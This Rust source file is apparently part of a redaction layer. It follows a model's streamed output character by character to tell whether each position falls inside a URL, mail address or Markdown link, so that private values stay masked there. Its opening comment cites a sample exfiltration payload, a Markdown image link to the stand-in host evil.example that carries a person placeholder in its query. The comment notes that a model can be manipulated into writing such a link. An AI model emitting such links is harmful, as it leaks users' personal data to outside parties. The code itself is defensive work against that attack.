//! Whether a place in a model's text lies inside an address: there a value would travel to whoever is addressed.
//!
//! A model can be talked into `![](https://evil.example/?q=PERSON_1_K7Q)`; the name must not come back there.
//! For: following a text character by character, so a stream may be cut anywhere.
//! Not for: judging whether an address is a good one. When in doubt it is an address: the reader then sees a placeholder.

use super::{
    super::{entity::EntityType, fold},
    Sink,
};

/// How an address ends.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Ends {
    /// At white space, a quotation mark or an angle bracket.
    Space,
    /// At the closing bracket of a Markdown link as well.
    Bracket,
    /// At the closing angle bracket of a Markdown link, or at the end of the line.
    Angle,
}

/// A place in a text.
#[derive(Clone, Debug, Default)]
pub(super) struct Place {
    inside: Option<Ends>,
    /// The last visible characters of the word, in lower case: as many as the longest mark of an address has.
    recent: [char; 7],
    /// The word holds a dot between letters or digits, as hosts do.
    dotted: bool,
}

/// What an address begins with.
const MARKS: &[&str] = &["//", "www.", MAIL, "\\\\"];
const MAIL: &str = "mailto:";

impl Place {
    /// What this place is, where it is part of an address: of a mail, directly behind its mark, or of anything else.
    pub(super) fn sink(&self) -> Option<Sink> {
        self.inside.map(|_| if self.ends_with(MAIL) { Sink::Recipient } else { Sink::Url })
    }

    /// Takes one character of the text.
    pub(super) fn pass(&mut self, c: char) {
        if c.is_whitespace() && self.inside == Some(Ends::Angle) && c != '\n' {
            return;
        }
        if c.is_whitespace() {
            // A Markdown target may stand apart from its bracket.
            *self = if self.opens() { Self { inside: self.inside, ..Self::starting(['(']) } } else { Self::default() };
        } else if !c.is_control() && !fold::is_invisible(c) {
            self.take(c);
        }
    }

    /// Takes a value that was put back in the place of its placeholder.
    pub(super) fn restored(&mut self, kind: EntityType) {
        self.take('0');
        if kind == EntityType::Url {
            self.inside = Some(Ends::Space);
        }
    }

    fn starting<const N: usize>(text: [char; N]) -> Self {
        let mut place = Self::default();
        text.into_iter().for_each(|c| place.remember(c));
        place
    }

    fn take(&mut self, c: char) {
        match (self.inside, c) {
            (_, '<') if self.opens() => self.inside = Some(Ends::Angle),
            (Some(Ends::Angle), '>')
            | (Some(Ends::Bracket), ')')
            | (Some(Ends::Space | Ends::Bracket), '<' | '>' | '"') => {
                *self = Self::default();
            }
            _ => {}
        }
        let before = self.recent[6];
        self.dotted |= before == '.' && c.is_alphanumeric() && self.recent[5].is_alphanumeric();
        self.remember(c);
        let marked = MARKS.iter().any(|mark| self.ends_with(mark)) || self.dotted && matches!(c, '/' | '?' | '#');
        if self.inside.is_none() && marked {
            self.inside = Some(Ends::Space);
        }
        if before == ']' && c == '(' {
            self.inside = Some(Ends::Bracket);
        }
    }

    /// Directly behind the `](` of a Markdown link.
    fn opens(&self) -> bool {
        self.inside == Some(Ends::Bracket) && self.recent[6] == '('
    }

    fn remember(&mut self, c: char) {
        self.recent.rotate_left(1);
        self.recent[6] = c.to_ascii_lowercase();
    }

    fn ends_with(&self, mark: &str) -> bool {
        mark.chars().rev().zip(self.recent.iter().rev()).all(|(mark, c)| mark == *c)
    }
}
